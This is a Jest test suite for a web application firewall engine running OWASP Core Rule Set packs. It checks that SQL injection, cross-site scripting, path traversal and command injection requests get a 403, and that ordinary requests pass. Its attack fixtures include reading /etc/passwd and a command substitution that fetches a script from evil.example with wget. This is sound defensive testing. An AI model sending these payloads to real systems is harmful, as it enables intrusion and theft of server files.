import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { activateRuleset, compileRuleset, readRuleFiles, Transaction, type Interruption, type Ruleset } from './index.js';
import { crs3, crs4, type Pack } from './testing/packs.js';

const BROWSER = [
  ['Host', 'shop.example'],
  ['User-Agent', 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36'],
  ['Accept', 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8'],
  ['Accept-Language', 'ko,en;q=0.7'],
  ['Cookie', 'sid=af28bc9d0e1f; theme=dark; cart=3'],
] as const;

interface Request {
  readonly method: string;
  readonly uri: string;
  readonly contentType?: string;
  readonly body?: string;
}

const ATTACKS: readonly (readonly [name: string, request: Request, family: number])[] = [
  ['SQL injection in the query', { method: 'GET', uri: '/?id=1%27%20or%201=1--' }, 942],
  ['SQL injection in a JSON member', json('{"filter":{"name":["1 UNION SELECT password FROM users"]}}'), 942],
  ['SQL injection in a form field', form("user=admin&pass=1' or '1'='1"), 942],
  ['script in the query', { method: 'GET', uri: '/?q=%3Cscript%3Ealert(1)%3C/script%3E' }, 941],
  ['an event handler in a form field', form('comment=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E'), 941],
  ['script in an XML element', { ...json('<a><b>&lt;script&gt;alert(1)&lt;/script&gt;</b></a>'), contentType: 'application/xml' }, 941],
  ['a path out of the document root', { method: 'GET', uri: '/?f=../../../../etc/passwd' }, 930],
  ['an encoded path out of the document root', { method: 'GET', uri: '/?f=..%2f..%2f..%2fetc%2fpasswd' }, 930],
  ['a shell command', { method: 'GET', uri: '/?c=;cat%20/etc/passwd' }, 932],
  ['a command substitution', form('c=$(wget%20http://evil.example/x.sh)'), 932],
];

const HARMLESS: readonly Request[] = [
  { method: 'GET', uri: '/' },
  { method: 'GET', uri: '/products?id=12&sort=price&q=red+shoes&page=2' },
  form('name=Anna+Smith&email=anna%40example.org&comment=Nice+shop%2C+thanks%21'),
  json('{"items":[{"id":7,"count":2}],"note":"call me after 5 pm"}'),
];

for (const pack of [crs4(), crs3()]) {
  if (pack === null) continue;
  describe(pack.name, () => {
    const compiled = compile(pack);
    const ruleset = activateRuleset(compiled.artefact);

    it('loads without leaving a rule out', () => {
      expect(compiled.report.skipped).toEqual([]);
      expect(compiled.report.rules).toBeGreaterThan(600);
      expect(compiled.report.files).toBe(pack.rules.length + 1);
      expect(ruleset.ruleCount).toBe(compiled.report.rules);
    });

    it('names what can never match here', () => {
      const reasons = compiled.report.notes.map(({ reason }) => reason);
      expect(reasons.every((reason) => reason.startsWith('@geoLookup') || reason.startsWith('@rbl'))).toBe(true);
    });

    it('runs under the digest it was compiled to', () => {
      expect(ruleset.digest).toBe(compiled.digest);
      expect(ruleset.measureDigest()).toBe(compiled.digest);
    });

    it('is activated at a fraction of what compiling costs', () => {
      // Processor time: the wall clock of a busy machine says nothing.
      const cost = (work: () => unknown): number => {
        const before = process.threadCpuUsage();
        work();
        const { user, system } = process.threadCpuUsage(before);
        return user + system;
      };
      expect(cost(() => activateRuleset(compiled.artefact))).toBeLessThan(cost(() => compile(pack)) / 2);
    });

    it.each(ATTACKS)('refuses %s with 403', (_name, request, family) => {
      const { verdict, transaction } = inspect(ruleset, request);
      expect(verdict).toMatchObject({ action: 'deny', status: 403 });
      expect(transaction.scores.inbound).toBeGreaterThanOrEqual(5);
      expect(transaction.matches.map(({ id }) => Math.floor(id / 1000))).toContain(family);
      expect(transaction.budgetExceeded).toBeNull();
    });

    it.each(HARMLESS)('lets $method $uri pass', (request) => {
      const { verdict, transaction } = inspect(ruleset, request);
      expect(verdict).toBeNull();
      expect(transaction.matches).toEqual([]);
      expect(transaction.scores).toEqual({ inbound: 0, outbound: 0 });
    });

    it('is refused no worse than by a verdict, whatever a request holds', () => {
      const bytes = fc.string({ unit: fc.integer({ min: 0, max: 255 }).map((byte) => String.fromCharCode(byte)), maxLength: 60 });
      const contentType = fc.constantFrom(
        'application/json',
        'text/xml',
        'application/x-www-form-urlencoded',
        'multipart/form-data; boundary=x',
      );
      fc.assert(
        fc.property(bytes, bytes, bytes, contentType, bytes, (method, uri, header, type, body) => {
          const { transaction } = inspect(ruleset, { method, uri: `/${uri}`, contentType: `${type}${header}`, body: `--x\r\n${body}` });
          expect(transaction.budgetExceeded).toBeNull();
        }),
        { numRuns: 200 },
      );
    });

    it('in detection mode lets an attack pass, and says what would have been', () => {
      const { verdict, transaction } = inspect(ruleset, ATTACKS[0]![1], 'detection');
      expect(verdict).toBeNull();
      expect(transaction.wouldBlock).toEqual({ action: 'deny', status: 403, ruleId: 949110 });
      const match = transaction.matches.find(({ id }) => id === 942100);
      expect(match).toMatchObject({ severity: 'CRITICAL', phase: 2, matchedVar: 'ARGS:id', matchedBytes: "1' or 1=1--" });
      expect(match?.data).toContain("found within ARGS:id: 1' or 1=1--");
    });
  });
}

function compile(pack: Pack): ReturnType<typeof compileRuleset> {
  const { sources, resolveFile } = readRuleFiles([pack.setup, ...pack.rules]);
  return compileRuleset(sources, { resolveFile });
}

function form(body: string): Request {
  return { method: 'POST', uri: '/form', contentType: 'application/x-www-form-urlencoded', body };
}

function json(body: string): Request {
  return { method: 'POST', uri: '/api', contentType: 'application/json', body };
}

function inspect(
  ruleset: Ruleset,
  { method, uri, contentType, body }: Request,
  engineMode: 'on' | 'detection' = 'on',
): { verdict: Interruption | null; transaction: Transaction } {
  const client = { address: '192.0.2.7', port: 40_000 };
  const transaction = new Transaction(ruleset, {
    requestId: 'r-1',
    client,
    server: { address: '192.0.2.1', port: 80 },
    engineMode,
    budgetMs: 5000,
  });
  const headers: (readonly [string, string])[] = [...BROWSER];
  if (contentType !== undefined) headers.push(['Content-Type', contentType], ['Content-Length', String(body?.length ?? 0)]);
  transaction.requestHead({ method, uri, protocol: 'HTTP/1.1', headers });
  let verdict = transaction.evaluatePhase1();
  if (verdict === null && body !== undefined) transaction.requestBody(Buffer.from(body, 'latin1'), false);
  verdict ??= transaction.evaluatePhase2();
  return { verdict, transaction };
}
